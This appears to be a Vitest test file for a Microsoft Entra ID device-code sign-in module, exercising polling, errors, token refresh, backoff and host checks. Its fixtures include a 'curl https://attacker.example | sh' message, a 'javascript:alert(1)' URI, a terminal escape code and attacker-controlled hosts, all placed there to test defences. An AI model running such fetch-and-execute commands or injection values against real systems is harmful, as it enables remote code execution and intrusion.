import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { SfmapError } from '../../../server/src/core/errors.ts';
import { type DeviceCode, deviceCodeSignIn } from '../../../server/src/systems/entra/sign-in/device-code-sign-in.ts';
import { SignInDoor } from '../../../server/src/systems/entra/sign-in/sign-in-door.ts';
import { createHttp, defaultLimits } from '../../../server/src/systems/http.ts';
import { type Asked, aadsts, FakeEntra, json, token } from '../support/fake-entra.ts';

let entra: FakeEntra;
let shown: DeviceCode[] = [];
beforeEach(async () => {
  entra = await FakeEntra.start();
  shown = [];
});
afterEach(() => entra.stop());

const scope = 'https://graph.microsoft.com/.default';
const http = () =>
  createHttp({ system: 'The sign-in of Entra ID', limits: defaultLimits, pause: async () => undefined });
const open = (now = Date.now) =>
  deviceCodeSignIn(
    { origin: entra.origin, tenant: 'contoso.example', clientId: 'app-1' },
    [scope],
    (code) => shown.push(code),
    http(),
    now,
  );

const code = {
  device_code: 'device-1',
  user_code: 'ABCD-EFGH',
  verification_uri: 'https://microsoft.com/devicelogin',
  expires_in: 900,
  interval: 1,
  message: 'To sign in, run: curl https://attacker.example | sh',
};
const clientInfo = Buffer.from(JSON.stringify({ uid: 'u1', utid: 't1' })).toString('base64url');
const tokens = () => ({
  access_token: token(),
  refresh_token: 'refresh-1',
  id_token: token({ oid: 'u1', tid: 't1', preferred_username: 'rita.okafor@contoso.example' }),
  client_info: clientInfo,
  token_type: 'Bearer',
  expires_in: 3599,
  scope: 'openid profile offline_access https://graph.microsoft.com/User.Read.All',
});
const isCode = ({ path }: Asked) => path.includes('/devicecode');

/** Answers the polls one after the other; the last answer stands. */
function polls(...answers: readonly (readonly [body: object | (() => object), status: number])[]): void {
  let count = 0;
  entra.answer = (asked, response) => {
    if (isCode(asked)) return json(response, code);
    const [body, status] = answers[Math.min(count, answers.length - 1)] ?? [{}, 500];
    count += 1;
    return json(response, typeof body === 'function' ? body() : body, status);
  };
}

async function problem(work: Promise<unknown>): Promise<SfmapError> {
  const error: unknown = await work.then(
    () => undefined,
    (reason: unknown) => reason,
  );
  if (error instanceof SfmapError) return error;
  throw new Error(`no SfmapError: ${String(error)}`);
}

describe('a person signs in with a code', () => {
  test('which is shown with its page, and asked about until it is entered', async () => {
    polls([aadsts(70016, 'authorization_pending'), 400], [tokens, 200]);
    expect(await open().authorization()).toMatch(/^Bearer /);
    expect(shown).toEqual([{ page: 'https://microsoft.com/devicelogin', code: 'ABCD-EFGH', seconds: 900 }]);
    const [first, ...rest] = entra.asked;
    expect(first?.path).toContain('/contoso.example/oauth2/v2.0/devicecode');
    expect(first?.form.get('scope')?.split(' ')).toContain(scope);
    expect(rest.map(({ form }) => form.get('device_code'))).toEqual(['device-1', 'device-1']);
  });

  test.each([
    ['declined', { error: 'authorization_declined' }, 'SFM-SIGN-IN-DECLINED'],
    ['expired', { error: 'expired_token' }, 'SFM-SIGN-IN-CODE-EXPIRED'],
    ['expired, by its code', aadsts(70019, 'invalid_grant'), 'AADSTS70019'],
    ['blocked', aadsts(53003, 'access_blocked'), 'AADSTS53003'],
  ])('%s', async (_name, body, expected) => {
    polls([aadsts(70016, 'authorization_pending'), 400], [body, 400]);
    const error = await problem(open().authorization());
    expect(error.code).toBe(expected);
    expect(error.cure).not.toBe('');
  });

  test('a code that has run out while nobody asked', async () => {
    entra.answer = (asked, response) =>
      isCode(asked)
        ? json(response, { ...code, expires_in: 1 })
        : json(response, aadsts(70016, 'authorization_pending'), 400);
    expect((await problem(open().authorization())).code).toBe('SFM-SIGN-IN-CODE-EXPIRED');
  });

  test('cancelled at once, in the middle of a wait', async () => {
    entra.answer = (asked, response) =>
      isCode(asked)
        ? json(response, { ...code, interval: 30 })
        : json(response, aadsts(70016, 'authorization_pending'), 400);
    const began = Date.now();
    const signal = AbortSignal.timeout(100);
    expect((await problem(open().authorization(signal))).code).toBe('SFM-CANCELLED');
    expect(Date.now() - began).toBeLessThan(10_000);
  });

  test.each([
    ['a page that is no address', { ...code, verification_uri: 'javascript:alert(1)' }],
    ['a code that steers the terminal', { ...code, user_code: '\u001b[2J' }],
    ['nothing', {}],
  ])('not with %s', async (_name, body) => {
    entra.answer = (_asked, response) => json(response, body);
    expect((await problem(open().authorization())).code).toBe('SFM-HTTP-SHAPE');
    expect(shown).toEqual([]);
  });

  test('once: a token that ends is renewed without the person; what was revoked asks again', async () => {
    polls([tokens, 200]);
    let now = Date.now();
    const signIn = open(() => now);
    const first = await signIn.authorization();
    now += 3_590_000;
    const second = await signIn.authorization();
    expect(second).not.toBe(first);
    expect(entra.asked.at(-1)?.form.get('grant_type')).toBe('refresh_token');
    expect(shown).toHaveLength(1);

    const before = entra.answer;
    entra.answer = (asked, response, count) =>
      asked.form.get('grant_type') === 'refresh_token'
        ? json(response, aadsts(50173, 'invalid_grant'), 400)
        : before(asked, response, count);
    now += 3_590_000;
    expect(await signIn.authorization()).toMatch(/^Bearer /);
    expect(shown).toHaveLength(2);
  });
});

test('who is asked to slow down waits five seconds longer from then on', async () => {
  const waits: number[] = [];
  const door = new SignInDoor(http(), entra.origin, async (milliseconds) => void waits.push(milliseconds));
  const url = `https://${entra.host}/t/oauth2/v2.0/token`;
  polls([{ error: 'slow_down' }, 400], [{ error: 'authorization_pending' }, 400]);
  await door.sendPostRequestAsync(`https://${entra.host}/t/oauth2/v2.0/devicecode`);
  for (let times = 0; times < 2; times += 1) {
    expect((await door.sendPostRequestAsync<{ error: string }>(url)).body.error).toBe('authorization_pending');
  }
  expect(waits).toEqual([6_000, 6_000]);
});

test.each([
  'http://HOST/t/oauth2/v2.0/token',
  'https://attacker.example/t/oauth2/v2.0/token',
  'https://HOST.attacker.example/token',
  'https://HOST@attacker.example/token',
])('the library reaches no other host: %s', async (url) => {
  const door = new SignInDoor(http(), entra.origin);
  const error = await problem(
    door.through(undefined, () =>
      door.sendPostRequestAsync(url.replace('HOST', entra.host), { body: 'client_secret=x' }),
    ),
  );
  expect(error.code).toBe('SFM-SIGN-IN-HOST');
  expect(entra.asked).toEqual([]);
});
